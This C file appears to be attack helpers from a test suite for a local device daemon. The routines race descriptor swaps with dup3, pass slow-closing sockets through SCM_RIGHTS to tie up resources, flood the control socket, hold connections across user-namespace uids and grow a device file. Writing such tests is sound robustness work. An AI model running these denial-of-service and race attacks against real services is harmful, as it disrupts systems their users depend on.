// Attacks on kernel operations for the service: opening a link, closing a descriptor, keeping the pages of a file.
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>

static int device, spare, other;
static volatile int stop;

// alternate puts the other file and the device at the device's descriptor number in alternation.
static void *alternate(void *unused)
{
	(void)unused;
	while (!stop) {
		dup3(other, device, O_CLOEXEC);
		dup3(spare, device, O_CLOEXEC);
	}
	return NULL;
}

static void *duplicate(void *unused)
{
	(void)unused;
	while (!stop) {
		int fd = dup(device);
		if (fd >= 0)
			close(fd);
	}
	return NULL;
}

// swap-device PATH SECONDS: duplicates a device file on a thread with a separate descriptor table, while another thread
// puts PATH, opened by O_PATH, in its place.
int swap_device(int argc, char **argv)
{
	CHECK(argc == 2);
	device = open_device()->cmd_fd;
	CHECK((spare = dup(device)) >= 0 && (other = open(argv[0], O_PATH | O_CLOEXEC)) >= 0);
	pthread_t a, b;
	pthread_create(&a, NULL, duplicate, NULL);
	pthread_create(&b, NULL, alternate, NULL);
	CHECK(!unshare(CLONE_FILES)); // of the main thread; pidfd_getfd uses its descriptor table
	close(device);
	usleep(atof(argv[1]) * 1e6);
	stop = 1;
	pthread_join(a, NULL);
	pthread_join(b, NULL);
	say("done");
	await_line();
	return 0;
}

// lingering returns a socket that takes a minute to close.
static int lingering(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t len = sizeof a;
	static int l, made;
	if (made++ % 2000 == 0) { // a connect to a listener with a full backlog takes seconds
		l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		CHECK(!bind(l, (void *)&a, sizeof a) && !listen(l, 4096) && !getsockname(l, (void *)&a, &len));
	}
	CHECK(!getsockname(l, (void *)&a, &len));
	int size = 4096, s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(s, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
	CHECK(!connect(s, (void *)&a, sizeof a));
	static char chunk[1 << 16];
	while (send(s, chunk, sizeof chunk, MSG_DONTWAIT) > 0)
		;
	struct linger linger = {1, 60};
	CHECK(!setsockopt(s, SOL_SOCKET, SO_LINGER, &linger, sizeof linger));
	return s;
}

// pass sends bytes with a lingering descriptor, which is then open only in the message.
static int pass(int s, const void *bytes, size_t size)
{
	struct iovec v = {(void *)bytes, size};
	char space[CMSG_SPACE(sizeof(int))] = {0};
	struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	int fd = lingering();
	memcpy(CMSG_DATA(c), &fd, sizeof fd);
	int sent = sendmsg(s, &m, MSG_NOSIGNAL | MSG_DONTWAIT);
	struct linger off = {0, 0};
	if (sent < 0) // otherwise the message holds the descriptor, and this close returns at once
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &off, sizeof off);
	close(fd);
	return sent;
}

static void many_files(void)
{
	struct rlimit limit;
	getrlimit(RLIMIT_NOFILE, &limit);
	limit.rlim_cur = limit.rlim_max;
	setrlimit(RLIMIT_NOFILE, &limit);
}

// linger-netlink COUNT: sends a lingering descriptor through each of COUNT netlink sockets.
int linger_netlink(int argc, char **argv)
{
	CHECK(argc == 1);
	many_files();
	int sent = 0, sockets = 0;
	for (int i = 0; i < atoi(argv[0]); i++) {
		int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, 20); // NETLINK_RDMA
		if (s < 0)
			break;
		sockets++;
		char request[16] = {16};
		sent += pass(s, request, sizeof request) > 0;
	}
	say("sockets %d, sent %d", sockets, sent);
	await_line();
	return 0;
}

// linger-control SOCKET COUNT WHERE: sends a lingering descriptor through each of COUNT connections: with the rest of a
// request, with its beginning, where it is surplus, or when the service no longer expects a request.
int linger_control(int argc, char **argv)
{
	CHECK(argc == 3);
	control = argv[0];
	many_files();
	int sent = 0;
	for (int i = 0; i < atoi(argv[1]); i++) {
		int s = connect_control();
		if (s < 0)
			break;
		uint32_t size = 1000;
		if (!strcmp(argv[2], "rest")) {
			CHECK(write(s, &size, 4) == 4);
			usleep(1000);
			sent += pass(s, "{", 1) > 0;
		} else if (!strcmp(argv[2], "begin")) {
			sent += pass(s, &size, 4) > 0;
		} else {
			sent += pass(s, &size, 4) > 0;
			sent += pass(s, "{", 1) > 0;
			shutdown(s, SHUT_WR);
			close(s);
		}
	}
	say("sent %d", sent);
	await_line();
	return 0;
}

// grow BYTES: enlarges the file of a device's descriptor, in steps.
int grow(int argc, char **argv)
{
	CHECK(argc == 1);
	// A number whose calls are not trapped. The service would refuse trapped calls.
	int fd = dup2(open_device()->cmd_fd, 100);
	CHECK(fd == 100);
	long bytes = atol(argv[0]), step = 1 << 20, got = 0;
	for (long at = 0; at < bytes; at += step)
		if (!fallocate(fd, 0, at, step))
			got += step;
	say("grown by %ld: %s", got, strerror(errno));
	say("truncate: %s", ftruncate(fd, 0) ? strerror(errno) : "success");
	await_line();
	return 0;
}

// keep-descriptor PATH: a daemon that accepts a descriptor from each client, and keeps it.
int keep_descriptor(int argc, char **argv)
{
	CHECK(argc == 1);
	control = argv[0];
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strncpy(a.sun_path, control, sizeof a.sun_path - 1);
	int l = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	CHECK(!bind(l, (void *)&a, sizeof a) && !chmod(control, 0666) && !listen(l, 10));
	say("listening");
	int s = accept(l, NULL, NULL);
	char text[64], space[256];
	struct iovec v = {text, sizeof text};
	struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
	CHECK(recvmsg(s, &m, 0) > 0 && CMSG_FIRSTHDR(&m));
	say("kept");
	await_line();
	return 0;
}

// give-device PATH [UID]: opens a device, changes to the user, passes the device's descriptor to a daemon, and also
// keeps it open.
int give_device(int argc, char **argv)
{
	CHECK(argc == 1 || argc == 2);
	int fd = open_device()->cmd_fd;
	control = argv[0];
	if (argc == 2) {
		int uid = atoi(argv[1]);
		CHECK(!setresgid(uid, uid, uid) && !setresuid(uid, uid, uid));
	}
	int s = connect_control();
	CHECK(s >= 0 && send_with(s, "take it", fd) > 0);
	say("given");
	for (;;)
		pause();
}

// unread SOCKET COUNT OP: sends requests on COUNT connections, and reads no answers.
int unread(int argc, char **argv)
{
	CHECK(argc == 3);
	control = argv[0];
	many_files();
	char text[128];
	snprintf(text, sizeof text, "{" PROTOCOL ",\"Op\":\"%s\"}", argv[2]);
	int asked = 0;
	for (int i = 0; i < atoi(argv[1]); i++) {
		int s = connect_control();
		if (s < 0)
			break;
		asked += send_with(s, text, -1) > 0;
		usleep(15000); // limits the number of answers in preparation
	}
	say("asked %d", asked);
	await_line();
	return 0;
}

// subordinate SOCKET IDS EACH: holds connections as IDS users of a user namespace, which the test maps.
int subordinate(int argc, char **argv)
{
	CHECK(argc == 3);
	control = argv[0];
	CHECK(!unshare(CLONE_NEWUSER));
	say("%d", getpid());
	await_line();
	int total[2];
	CHECK(!pipe(total));
	for (int i = 0; i < atoi(argv[1]); i++) {
		if (fork())
			continue;
		CHECK(!setresgid(i, i, i) && !setresuid(i, i, i));
		int n = 0;
		for (int k = 0; k < atoi(argv[2]); k++) {
			int s = connect_control();
			if (s < 0)
				break;
			// An answer to a request shows that the service serves the connection.
			char answer[4096];
			struct timeval wait = {2, 0};
			setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
			if (send_with(s, "{" PROTOCOL ",\"Op\":\"info\"}", -1) > 0 && recv(s, answer, sizeof answer - 1, 0) > 4 && strstr(answer + 4, "\"Info\""))
				n++;
			else
				close(s);
			memset(answer, 0, sizeof answer);
		}
		write(total[1], &n, sizeof n);
		pause();
	}
	int sum = 0;
	for (int i = 0; i < atoi(argv[1]); i++) {
		int n;
		CHECK(read(total[0], &n, sizeof n) == sizeof n);
		sum += n;
	}
	say("served %d", sum);
	await_line();
	return 0;
}

// flood SOCKET SECONDS KIND: connects repeatedly, and closes at once, sends a lingering descriptor, or sends a request
// without reading the answer. KIND "spin" only occupies a processor.
int flood(int argc, char **argv)
{
	CHECK(argc == 3);
	control = argv[0];
	many_files();
	long rounds = 0;
	int held[200] = {0}, at = 0;
	say("begun");
	for (double end = now() + atof(argv[1]); now() < end; rounds++) {
		if (!strcmp(argv[2], "spin"))
			continue;
		int s = connect_control();
		if (s < 0)
			continue;
		uint32_t size = 1000;
		if (!strcmp(argv[2], "descriptors")) {
			pass(s, &size, 4);
			if (rounds < 800) // closing a socket with unreceived descriptors would take long here
				continue;
			usleep(1000);
		}
		if (!strcmp(argv[2], "answers"))
			send_with(s, "{" PROTOCOL ",\"Op\":\"res show\"}", -1);
		if (!strcmp(argv[2], "connections")) {
			close(s);
			continue;
		}
		if (held[at])
			close(held[at]);
		held[at] = s;
		at = (at + 1) % 200;
	}
	say("rounds %ld", rounds);
	return 0;
}
